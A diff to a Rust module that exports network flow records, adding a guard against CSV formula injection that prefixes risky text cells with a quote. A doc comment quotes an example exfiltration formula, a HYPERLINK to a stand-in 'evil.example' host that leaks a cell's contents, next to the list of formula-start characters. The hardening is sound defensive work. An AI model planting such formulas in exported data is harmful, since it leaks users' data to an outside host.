@@ -4,6 +4,11 @@
 //! uses, so their fields, names and order agree with it by construction; CSV has every
 //! field but JSON's `verdict` (`drop` when `dropped > 0`, which CSV carries).
 //!
+//! Free text comes from subscribers files and packets (accounts, host names, DNS and TLS
+//! names), so each format neutralises it for what reads it, and only there: CSV puts a `'`
+//! before a text cell a spreadsheet would run as a formula ([`csv_text`]), the table shows
+//! control characters as `?` ([`push_cell`]); JSON Lines carries every value exact.
+//!
 //! Query results can run to millions of records, so each line is written by hand into one
 //! reused buffer (the byte writers of [`crate::record::text`]) rather than through
 //! `core::fmt`, serde and per-field `String`s: 4-6x faster per record (the `timing` test
@@ -200,12 +205,32 @@ fn csv_value(out: &mut Vec<u8>, first: bool, f: &FieldDef, r: &FlowRecord) {
         out.push(b',');
     }
     match (f.get)(r) {
-        Field::Text(s) | Field::OptText(Some(s)) => csv_field(out, s),
+        Field::Text(s) | Field::OptText(Some(s)) => csv_text(out, s),
         v => v.push_text(out),
     }
 }
 
-/// A CSV field, quoted (with `"` doubled) if it holds a comma, quote or line break.
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list for
+/// CSV injection): `=HYPERLINK("http://evil.example/?leak="&A2,"x")` as an account would send
+/// the row to that site when clicked, `-a1-b1.example` as a DNS name computes.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A CSV text cell: a `'` put before a text starting with one of [`FORMULA_START`] (a
+/// spreadsheet shows the text, not its result), then [`csv_field`]. Only for text: a
+/// number (`-5`) is written as it is, by the caller. JSON Lines carries such a text exact.
+pub fn csv_text(out: &mut Vec<u8>, s: &str) {
+    if s.starts_with(FORMULA_START) {
+        let mut guarded = String::with_capacity(s.len() + 1);
+        guarded.push('\'');
+        guarded.push_str(s);
+        csv_field(out, &guarded);
+    } else {
+        csv_field(out, s);
+    }
+}
+
+/// A CSV field, quoted (with `"` doubled) if it holds a comma, quote or line break; written
+/// as it is otherwise (free text goes through [`csv_text`]).
 pub fn csv_field(out: &mut Vec<u8>, s: &str) {
     if s.contains([',', '"', '\n', '\r']) {
         out.push(b'"');
